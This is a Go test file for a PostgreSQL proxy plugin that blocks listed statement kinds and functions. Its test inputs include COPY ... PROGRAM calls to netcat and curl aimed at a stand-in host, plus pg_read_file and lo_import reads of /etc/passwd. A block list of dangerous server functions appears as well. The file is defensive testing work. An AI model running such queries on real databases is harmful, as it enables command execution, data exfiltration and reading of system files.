package deny

import (
	"context"
	"strings"
	"testing"

	"github.com/sluicepg/sluice/plugin"
	"github.com/sluicepg/sluice/plugins/internal/plugintest"
)

func TestDeny(t *testing.T) {
	const config = `kinds = ["ExecuteStmt", "CopyStmt with PROGRAM", "DeleteStmt"]
functions = ["pg_read_file", "pg_catalog.pg_ls_dir", "lo_*"]
`
	for _, tc := range []struct {
		name, query string
		proto       plugin.Protocol
		want        string
	}{
		{"execute", "EXECUTE p(1)", plugin.Simple, "reject 42501: deny: statements of kind ExecuteStmt are not allowed"},
		{"execute after begin", "BEGIN; execute p", plugin.Simple, "reject 42501: deny: statements of kind ExecuteStmt are not allowed"},
		{"copy to program", "COPY t TO PROGRAM 'nc evil 1'", plugin.Simple, "reject 42501: deny: COPY ... PROGRAM is not allowed"},
		{"copy from program", "COPY t FROM PROGRAM 'curl x'", plugin.Simple, "reject 42501: deny: COPY ... PROGRAM is not allowed"},
		{"copy to stdout", "COPY t TO STDOUT", plugin.Simple, "continue"},
		{"nested delete", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", plugin.Simple, "reject 42501: deny: statements of kind DeleteStmt are not allowed"},
		{"function", "SELECT pg_read_file('/etc/passwd')", plugin.Simple, "reject 42501: deny: function pg_read_file is not allowed"},
		{"function qualified", "SELECT pg_catalog.pg_read_file('/etc/passwd')", plugin.Simple, "reject 42501: deny: function pg_catalog.pg_read_file is not allowed"},
		{"function in FROM", "SELECT * FROM pg_ls_dir('.')", plugin.Simple, "reject 42501: deny: function pg_ls_dir is not allowed"},
		{"qualified entry, other schema", "SELECT mine.pg_ls_dir('.')", plugin.Simple, "continue"},
		{"pattern", "SELECT lo_import('/etc/passwd')", plugin.Simple, "reject 42501: deny: function lo_import is not allowed"},
		{"at parse", "SELECT pg_read_file($1)", plugin.Parse, "reject 42501: deny: function pg_read_file is not allowed"},
		{"bind is not checked again", "SELECT pg_read_file($1)", plugin.Bind, "continue"},
		{"allowed", "SELECT lower('pg_read_file') FROM users", plugin.Simple, "continue"},
		{"not SQL goes to the server", "EXECUT p", plugin.Simple, "continue"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := new(Deny)
			if err := plugintest.Setup(p, config, nil); err != nil {
				t.Fatal(err)
			}
			q := plugintest.Query(tc.query)
			q.Protocol = tc.proto
			act, err := p.OnQuery(context.Background(), q)
			if got := plugintest.Describe(act); err != nil || got != tc.want {
				t.Errorf("got %q, %v; want %q", got, err, tc.want)
			}
		})
	}
}

func TestDenyRejectUnparsed(t *testing.T) {
	p := new(Deny)
	if err := plugintest.Setup(p, "kinds = [\"ExecuteStmt\"]\nreject_unparsed = true\nmax_length = 100", nil); err != nil {
		t.Fatal(err)
	}
	act, _ := p.OnQuery(context.Background(), plugintest.Query("SELECT "+strings.Repeat("1+", 100)+"1"))
	if act.Kind != plugin.Reject || !strings.Contains(act.Message, "too long") {
		t.Errorf("got %s", plugintest.Describe(act))
	}
}

func TestDenyConfigErrors(t *testing.T) {
	for _, tc := range []struct{ src, want string }{
		{`kinds = ["ExecuteStatement"]`, `did you mean "ExecuteStmt"?`},
		{`functions = ["pg_[read"]`, "bad pattern"},
		{`code = "x"`, "not a SQLSTATE"},
		{`kind = ["ExecuteStmt"]`, "unknown key"},
	} {
		err := plugintest.Setup(new(Deny), tc.src, nil)
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%q: %v; want an error with %q", tc.src, err, tc.want)
		}
	}
}
